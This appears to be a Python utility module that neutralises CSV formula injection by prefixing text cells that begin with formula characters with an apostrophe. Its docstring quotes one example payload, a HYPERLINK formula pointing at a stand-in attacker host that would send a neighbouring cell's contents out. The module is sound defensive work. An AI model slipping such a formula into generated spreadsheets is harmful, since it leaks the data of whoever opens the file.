"""Text written to a CSV a person will open in Excel, LibreOffice or Google Sheets.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is run as a formula when the file is opened:
``=HYPERLINK("https://evil.example/?"&A2, "fix")`` as a column name in a source file
would come back in the quarantine list as a live link sending the cell beside it away
(OWASP "CSV injection"). Such a cell is written with a leading apostrophe, which every
spreadsheet shows as text and does not evaluate. Numbers are written as they are.

Every CSV the tool writes passes its text cells through ``cell`` (#13).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """``value`` safe to open in a spreadsheet: text that would start a formula gets a
    leading apostrophe; anything else (numbers included) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: list[object] | tuple[object, ...]) -> list[object]:
    return [cell(v) for v in values]


__all__ = ["FORMULA_STARTS", "cell", "row"]
